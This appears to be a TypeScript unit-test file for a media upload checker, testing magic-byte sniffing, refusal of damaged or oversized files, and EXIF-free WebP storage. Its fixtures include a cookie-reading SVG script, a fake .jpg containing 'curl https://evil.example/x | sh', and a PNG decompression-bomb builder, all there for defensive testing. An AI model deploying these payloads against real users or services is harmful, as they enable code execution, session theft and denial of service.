import fs from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import zlib from 'node:zlib';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  checkUpload,
  MAX_IMAGE_BYTES,
  sniff,
  type UploadProblem,
  UploadRefused,
} from '../../src/media/sniff.js';
import { storeImage } from '../../src/media/storage.js';

const picture = (width = 64, height = 48) =>
  sharp({ create: { width, height, channels: 3, background: { r: 200, g: 40, b: 40 } } });

const samples = {
  jpeg: () => picture().jpeg().toBuffer(),
  png: () => picture().png().toBuffer(),
  webp: () => picture().webp().toBuffer(),
  avif: () => picture().avif().toBuffer(),
};

const pdf = Buffer.from(
  '%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n',
  'latin1',
);
const svgWithScript = Buffer.from(
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script><rect width="10" height="10"/></svg>',
);
const scriptNamedJpg = Buffer.from('#!/bin/sh\ncurl https://evil.example/x | sh\n');
const html = Buffer.from('<!doctype html><html><body><script>fetch("/admin")</script></body></html>');

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(zlib.crc32(body));
  return Buffer.concat([length, body, crc]);
}

/** A valid PNG header declaring 30000×30000 pixels (900 megapixels) over a few kilobytes of data. */
function decompressionBomb(): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(30_000, 0);
  header.writeUInt32BE(30_000, 4);
  header[8] = 8; // bit depth
  header[9] = 0; // greyscale
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', header),
    pngChunk('IDAT', zlib.deflateSync(Buffer.alloc(30_001 * 64))),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

const problemOf = async (work: () => unknown): Promise<UploadProblem | 'accepted'> => {
  try {
    await work();
    return 'accepted';
  } catch (err) {
    if (err instanceof UploadRefused) return err.problem;
    throw err;
  }
};

let dataDir: string;
beforeAll(async () => {
  dataDir = await fs.mkdtemp(path.join(os.tmpdir(), 'candle-media-unit-'));
});
afterAll(async () => {
  await fs.rm(dataDir, { recursive: true, force: true });
});

const storedFiles = async () => fs.readdir(path.join(dataDir, 'media')).catch(() => [] as string[]);

describe('sniffing by magic bytes', () => {
  for (const [format, make] of Object.entries(samples)) {
    it(`recognises ${format}`, async () => {
      const bytes = await make();
      expect(sniff(bytes)).toEqual({ kind: 'image', format, mime: `image/${format}` });
      expect(checkUpload(bytes).format).toBe(format);
    });
  }

  it('recognises a PDF', () => {
    expect(sniff(pdf)).toEqual({ kind: 'document', format: 'pdf', mime: 'application/pdf' });
    expect(checkUpload(pdf).kind).toBe('document');
  });

  it('recognises AVIF by a compatible brand too', async () => {
    const avif = Buffer.from(await samples.avif());
    avif.write('mif1', 8, 'latin1'); // major brand something else; avif still listed among the compatible
    expect(sniff(avif)?.format).toBe('avif');
  });

  it('refuses an SVG carrying a script, a script named .jpg, HTML and an empty file', async () => {
    expect(sniff(svgWithScript)).toBeNull();
    expect(await problemOf(() => checkUpload(svgWithScript))).toBe('unsupported');
    expect(await problemOf(() => checkUpload(scriptNamedJpg))).toBe('unsupported');
    expect(await problemOf(() => checkUpload(html))).toBe('unsupported');
    expect(await problemOf(() => checkUpload(Buffer.alloc(0)))).toBe('empty');
  });

  it('refuses a HEIC photo (an ISO-BMFF file without an AVIF brand)', () => {
    const heic = Buffer.alloc(32);
    heic.writeUInt32BE(24, 0);
    heic.write('ftypheic', 4, 'latin1');
    heic.write('mif1heic', 16, 'latin1');
    expect(sniff(heic)).toBeNull();
  });

  it('refuses an image over 20 MB before decoding it', async () => {
    const big = Buffer.alloc(MAX_IMAGE_BYTES + 1);
    big.set([0xff, 0xd8, 0xff, 0xe0]);
    expect(await problemOf(() => checkUpload(big))).toBe('image-too-large');
  });

  it('refuses a PDF cut short in transit', async () => {
    const cut = pdf.subarray(0, pdf.length - 8);
    expect(await problemOf(() => checkUpload(cut))).toBe('damaged');
  });
});

describe('decoding refuses what sniffing cannot see, and leaves nothing behind', () => {
  it('refuses a truncated JPEG', async () => {
    const jpeg = await picture(800, 600).jpeg().toBuffer();
    const truncated = jpeg.subarray(0, Math.floor(jpeg.length * 0.6));
    expect(sniff(truncated)?.format).toBe('jpeg');
    expect(await problemOf(() => storeImage(dataDir, truncated, 'jpeg'))).toBe('damaged');
    expect(await storedFiles()).toEqual([]);
  });

  it('refuses a decompression bomb from its header, without decoding it', async () => {
    const bomb = decompressionBomb();
    expect(bomb.length).toBeLessThan(10_000);
    expect(sniff(bomb)?.format).toBe('png');
    const started = Date.now();
    expect(await problemOf(() => storeImage(dataDir, bomb, 'png'))).toBe('too-many-pixels');
    expect(Date.now() - started).toBeLessThan(2000);
    expect(await storedFiles()).toEqual([]);
  });

  it('refuses a file whose content is not the format its magic bytes claim', async () => {
    const png = await samples.png();
    expect(await problemOf(() => storeImage(dataDir, png, 'jpeg'))).toBe('unsupported');
  });

  it('stores every accepted image format as upright WebP variants without metadata', async () => {
    for (const [format, make] of Object.entries(samples)) {
      const stored = await storeImage(dataDir, await make(), format as keyof typeof samples);
      expect(stored.variantWidths).toEqual([64]);
    }
    const photo = await picture(2000, 1000)
      .jpeg()
      .withExif({ IFD0: { Make: 'FieldCam', Copyright: 'Someone' } })
      .withMetadata({ orientation: 6 })
      .toBuffer();
    expect((await sharp(photo).metadata()).exif).toBeDefined();
    const stored = await storeImage(dataDir, photo, 'jpeg');
    // Orientation 6 is a quarter turn: the stored picture is portrait.
    expect([stored.width, stored.height]).toEqual([1000, 2000]);
    expect(stored.variantWidths).toEqual([480, 960, 1000]);
    for (const w of stored.variantWidths) {
      const meta = await sharp(path.join(dataDir, 'media', `${stored.storageKey}-${w}.webp`)).metadata();
      expect(meta.format).toBe('webp');
      expect(meta.width).toBe(w);
      expect(meta.exif).toBeUndefined();
      expect(meta.orientation).toBeUndefined();
    }
    expect((await storedFiles()).filter((f) => f.endsWith('.tmp'))).toEqual([]);
  });
});
